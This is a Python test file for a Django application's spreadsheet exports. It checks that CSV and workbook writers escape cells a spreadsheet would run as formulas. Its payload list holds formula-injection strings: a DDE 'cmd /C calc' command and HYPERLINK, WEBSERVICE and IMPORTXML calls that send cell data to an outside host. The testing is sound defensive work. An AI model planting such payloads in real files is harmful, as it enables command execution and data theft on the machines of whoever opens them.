"""Texts that a spreadsheet would run leave by no door that makes sheets: lists, rejected rows, the trail, pay, the laboratory, runs.

Every text of Ana's records is such a text, and the files are read back cell by cell by a rule of its own. What was guarded comes back
as it was, by the import. A door that is not tried here is found by the writers of CSV and of workbooks in the source.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from random import Random
from typing import Any

import pytest
from django.db import models
from django.http import QueryDict
from python_calamine import CalamineWorkbook

import tonglu
from tests.permissions.conftest import MADE, Company
from tonglu.administration.exporting import trail_export
from tonglu.administration.trail import TrailQuery
from tonglu.compensation.laboratory.report import HEAD, people_csv
from tonglu.compensation.run.writing import _write_csv
from tonglu.compensation.sheets import sheet_write
from tonglu.entities.registry import entity_of
from tonglu.entities.services import record_update
from tonglu.entities.testing.files import csv_bytes
from tonglu.entities.transfer.exporting import ExportRows, xlsx_write
from tonglu.entities.transfer.importing import (
    import_map,
    import_open,
    import_table,
    problems_file,
)
from tonglu.entities.transfer.plans import ColumnPlan, ImportPlan
from tonglu.entities.transfer.reading import text_of
from tonglu.kernel import cells
from tonglu.policy import Actor, actor_of
from tonglu.toolkit import jobs
from tonglu.toolkit.files import file_open
from tonglu.toolkit.models import Work
from tools.drills.fixture import Drill

SYSTEM = Actor.system("cli")
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "'=", "''=", "'-", "＝", "＋", "－", "＠", "-1+", "-2-", "=-", "+49 ", " @",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.cn?"&A1,"x")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.cn")',
    'IMPORTXML("http://x.cn","//a")',
    "DDE(0;0;1)",
    "A1",
)
WRITERS = {
    "administration/exporting.py",
    "compensation/laboratory/report.py",
    "compensation/run/writing.py",
    "compensation/sheets.py",
    "entities/testing/files.py",
    "entities/transfer/exporting.py",
    "entities/transfer/importing.py",
}


def payloads(number: int, dice: Random) -> list[str]:
    """So many texts, each start at least once."""
    return [f"{STARTS[n % len(STARTS)]}{dice.choice(BODIES)}" for n in range(number)]


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run this cell of a CSV file; negative numbers are no harm."""
    if re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell):
        return False
    return cell.lstrip()[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n")


def in_csv(content: bytes) -> Iterator[str]:
    """Every cell."""
    for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        yield from line


def in_workbook(content: bytes) -> Iterator[str]:
    """Every cell, and every formula there is."""
    for line in (
        CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    ):
        yield from (cell for cell in line if isinstance(cell, str))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if b"<f>" in archive.read(name) or b"<f " in archive.read(name):
                yield f"=formula in {name}"


def lists(
    company: Company, texts: list[str], dice: Random, kinds: Iterable[str]
) -> Iterator[tuple[str, list[str]]]:
    """Kinds as CSV and as workbooks, with all their columns."""
    for kind in kinds:
        row = company.rows[kind]["ana"]
        type(row)._default_manager.filter(pk=row.pk).update(**_filled(row, texts, dice))
        entity = entity_of(kind)
        yield f"{kind} csv", list(in_csv(csv_bytes(ExportRows(SYSTEM, entity, "view=all", "all"))))
        made = io.BytesIO()
        xlsx_write(ExportRows(SYSTEM, entity, "view=all", "all"), made, lambda _done: None)
        yield f"{kind} xlsx", list(in_workbook(made.getvalue()))


def _filled(row: Any, texts: list[str], dice: Random) -> dict[str, str]:
    return {
        f.name: dice.choice(texts)[: f.max_length or 80]
        for f in row._meta.concrete_fields
        if isinstance(f, (models.CharField, models.TextField))
        and not isinstance(f, models.EmailField)
        and not (f.choices or f.unique or "currency" in f.name)
        and (f.max_length or 80) > 8
    }


def rejected(company: Company, texts: list[str]) -> bytes:
    """The rows of a file that could not be brought in, given back to be mended."""
    ana, entity = actor_of(company.cast.ana), entity_of("sales.opportunity")
    rows = [[texts[0], "amount"], *([text, "no number"] for text in texts)]
    made = import_open(actor=ana, entity=entity, name="a.csv", stream=io.BytesIO(_csv(rows)))
    headers = import_table(made).headers
    columns = tuple(
        ColumnPlan(field=f, header=h) for f, h in zip(("name", "amount"), headers, strict=True)
    )
    import_map(actor=ana, made=made, plan=ImportPlan(kind=entity.kind, columns=columns, file="a"))
    jobs.drain(strict=False)
    made.refresh_from_db()
    assert made.report["problems"], made.report
    return problems_file(made)


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def trail(company: Company, texts: list[str]) -> bytes:
    """The audit trail after somebody renamed a customer."""
    ana, row = actor_of(company.cast.ana), company.rows["customers.account"]["ana"]
    for text in texts:
        record_update(actor=ana, row=row, values={"name": text.strip() or "x"})
    work = trail_export(actor=actor_of(company.cast.ada), query=TrailQuery.of(QueryDict("").dict()))
    jobs.drain(strict=False)
    file = Work.objects.get(pk=work.pk).file
    assert file is not None
    with file_open(file) as opened:
        return bytes(opened.read())


def doors(
    company: Company,
    texts: list[str],
    folder: Path,
    dice: Random,
    kinds: Iterable[str] = tuple(MADE),
) -> Iterator[tuple[str, list[str]]]:
    """Every file, cell by cell."""
    yield from lists(company, texts, dice, kinds)
    yield "rejected rows", list(in_csv(rejected(company, texts)))
    yield "trail", list(in_csv(trail(company, texts[:40])))
    lines = [texts, *([text, 1, "-5"] for text in texts)]
    yield "pay csv", list(in_csv(sheet_write(lines, "csv")))
    told = [dict.fromkeys(HEAD, text) for text in texts]
    yield "laboratory", list(in_csv(people_csv({"people": told}).encode()))
    _write_csv(folder, "run", [{"name": text, text: text} for text in texts])
    yield "run", list(in_csv((folder / "run.csv").read_bytes()))


def let_through(
    company: Company,
    texts: list[str],
    folder: Path,
    dice: Random,
    kinds: Iterable[str] = tuple(MADE),
) -> tuple[list[str], int]:
    """The cells that a spreadsheet would run, and how many were looked at."""
    faults, looked = [], 0
    for door, found in doors(company, texts, folder, dice, kinds):
        looked += len(found)
        faults += [f"{door}: {cell!r}" for cell in found if runs(cell)]
    return faults, looked


def test_no_file_holds_a_text_that_a_spreadsheet_runs(
    company: Company, drill: Drill, tmp_path: Path
) -> None:
    dice = drill.dice()
    faults, looked = let_through(company, payloads(drill.size(42, 2_000), dice), tmp_path, dice)
    amounts = sheet_write([["=1+1", -5]], "xlsx")

    assert list(in_workbook(amounts)) == ["=1+1"]
    drill.holds("cells that a spreadsheet would run", faults, of=looked)


def test_what_was_guarded_comes_back_as_it_was(drill: Drill) -> None:
    dice = drill.dice()
    texts = payloads(drill.size(200, 20_000), dice)
    texts += ["'".join(dice.sample(["=", "", "-1", "a", "'", "+"], 4)) for _ in texts]
    lost = [text for text in map(str.strip, texts) if text_of(cells.cell_guarded(text)) != text]

    drill.holds("texts that an export and an import change", lost, of=len(texts))


def test_negative_numbers_stay_numbers() -> None:
    assert [cells.cell_guarded(text) for text in ("-5", "-5.00", "-5+1", "+86 138")] == [
        "-5",
        "-5.00",
        "'-5+1",
        "'+86 138",
    ]
    assert text_of("'-5.00") == "-5.00"


def test_every_writer_of_sheets_is_tried_here() -> None:
    source = Path(tonglu.__file__).parent
    found = {
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "tests" not in path.parts
        and re.search(r"csv\.writer|csv\.DictWriter|xlsxwriter\.Workbook", path.read_text())
    }

    assert found == WRITERS


def test_planted_a_guard_that_lets_what_begins_like_a_number_pass_is_found(
    company: Company, drill: Drill, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cells, "_RISKY", re.compile(r"[=+@\t\r]|-(?!\d)"))

    faults, _looked = let_through(
        company, payloads(42, drill.dice()), tmp_path, drill.dice(), ["customers.account"]
    )
    by_door = {fault.partition(":")[0] for fault in faults}

    assert {
        "customers.account csv",
        "rejected rows",
        "trail",
        "pay csv",
        "laboratory",
        "run",
    } <= by_door
